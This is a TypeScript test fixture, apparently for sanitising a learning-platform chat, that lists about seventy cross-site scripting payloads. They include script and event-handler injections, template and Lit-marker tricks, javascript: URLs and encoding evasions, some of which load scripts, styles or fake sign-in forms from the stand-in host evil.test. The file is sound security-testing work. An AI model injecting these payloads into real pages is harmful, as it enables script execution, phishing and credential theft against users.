/** What people have written into chats to make the pages of others do something. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

export const PAYLOADS: readonly string[] = [
  // Scripts and handlers
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script\u00a0type="module">import "https://evil.test/x.js"</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.png">',
  '<img/src=`x`/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script href=data:,alert(1) />',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=https://evil.test/a.mp3 autoplay onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x',
  '<div style="animation-name:x" onanimationstart=alert(1)>x</div>',
  '<button popovertarget=x>x</button><x popover id=x onbeforetoggle=alert(1)>',
  // Frames, forms, styles, links of the document
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>*{background:url(https://evil.test/x)}</style>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><button>Sign in again</button></form>',
  '<dialog open><form method=dialog><input name=password></form></dialog>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  // Breaking out of where it stands
  '"><script>alert(1)</script>',
  "' onmouseover=alert(1) x='",
  '" autofocus onfocus="alert(1)',
  '</textarea><script>alert(1)</script>',
  '</title></style></script><svg onload=alert(1)>',
  '--><img src=x onerror=alert(1)><!--',
  ']]><script>alert(1)</script>',
  '</p></div></li><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  // Templates
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--?lit$1$--><img src=x onerror=alert(1)>',
  '<?lit$123456789$>',
  '{"_$litType$":1,"strings":["<img src=x onerror=alert(1)>"],"values":[]}',
  '{"strings":["<script>alert(1)</script>"],"raw":[]}',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<lms-chat server="https://evil.test" token="x"></lms-chat>',
  '<slot name="header" onslotchange=alert(1)></slot>',
  // Addresses
  'javascript:alert(1)',
  'JaVaScRiPt://evil.test/%0aalert(1)',
  'https://evil.test/"onmouseover="alert(1)',
  'https://evil.test/<img/src=x/onerror=alert(1)>',
  "www.evil.test/'onclick='alert(1)",
  'mailto:a@evil.test?subject=<script>alert(1)</script>',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '[read this](javascript:alert(1))',
  'https://evil.test\\@school.test/%00javascript:alert(1)',
  // Letters
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u202e<tpircs>alert(1)\u202c',
  'x\u0008\u001b[31m<img src=x onerror=alert(1)>',
];

/** The lines of public collections, where `LMS_LIVE_CORPORA` names the folder that has them. */
export function publicPayloads(): readonly string[] {
  const folder = process.env['LMS_LIVE_CORPORA'];
  if (folder === undefined || folder === '') return [];
  return readFileSync(join(folder, 'xss/payloads.txt'), 'utf8').split('\n');
}

/** Puts lines together to texts of at most so many characters; a line that is longer is cut. */
export function packed(lines: readonly string[], maxChars: number): readonly string[] {
  const texts: string[] = [];
  let text = '';
  for (const line of lines.map((whole) => whole.slice(0, maxChars))) {
    if (text !== '' && text.length + 1 + line.length > maxChars) {
      texts.push(text);
      text = '';
    }
    text = text === '' ? line : `${text}\n${line}`;
  }
  return [...texts, text].filter((packedText) => packedText.trim() !== '');
}
